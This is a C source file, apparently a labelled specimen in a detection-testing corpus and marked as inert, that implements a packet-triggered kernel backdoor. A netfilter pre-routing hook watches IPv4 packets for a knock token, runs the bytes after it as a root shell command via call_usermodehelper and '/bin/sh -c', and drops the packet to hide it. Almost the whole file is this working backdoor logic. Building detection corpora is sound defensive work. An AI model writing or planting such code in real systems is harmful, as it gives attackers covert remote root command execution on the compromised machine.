/*
 * Backsight corpus sample: kernel/packet-shell  (INERT - compiled only, never loaded)
 *
 * Written from the public description of packet-triggered kernel backdoors: a netfilter hook on
 * IPv4 pre-routing looks for a token in each packet; the bytes after it are a command, which a
 * work item (user-mode helpers cannot start from the softirq the hook runs in) hands to
 * `/bin/sh -c` through call_usermodehelper. The packet is dropped so nothing upstream sees it.
 */
#include "../../src/kshape.h"

MODINFO(license, "GPL");
MODINFO(name, "packet_shell");
MODINFO(vermagic, CORPUS_VERMAGIC);
DEFINE_THIS_MODULE("packet_shell");

#define TOKEN "bsight-corpus-knock:"
#define TOKEN_LENGTH (sizeof(TOKEN) - 1)
#define PAYLOAD_OFFSET 28 /* IPv4 header without options, then an ICMP header */

static char command[128];
static struct work_struct run_work;

static void run_command(struct work_struct *work)
{
	char *argv[] = { "/bin/sh", "-c", command, NULL };
	char *envp[] = { "PATH=/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/", NULL };
	(void)work;
	call_usermodehelper(argv[0], argv, envp, UMH_WAIT_EXEC);
}

static unsigned int watch(void *priv, struct sk_buff *skb, const struct nf_hook_state *state)
{
	char head[TOKEN_LENGTH + sizeof(command)];
	(void)priv; (void)state;
	if (skb_copy_bits(skb, PAYLOAD_OFFSET, head, sizeof(head)) < 0)
		return NF_ACCEPT;
	if (memcmp(head, TOKEN, TOKEN_LENGTH) != 0)
		return NF_ACCEPT;
	memcpy(command, head + TOKEN_LENGTH, sizeof(command) - 1);
	command[sizeof(command) - 1] = 0;
	run_work.func = run_command;
	queue_work_on(WORK_CPU_UNBOUND, system_wq, &run_work);
	return NF_DROP;
}

static struct nf_hook_ops ops = {
	.hook = watch,
	.pf = NFPROTO_IPV4,
	.hooknum = NF_INET_PRE_ROUTING,
	.priority = -200,
};

int init_module(void)
{
	return nf_register_net_hook(&init_net, &ops);
}

void cleanup_module(void)
{
	nf_unregister_net_hook(&init_net, &ops);
}
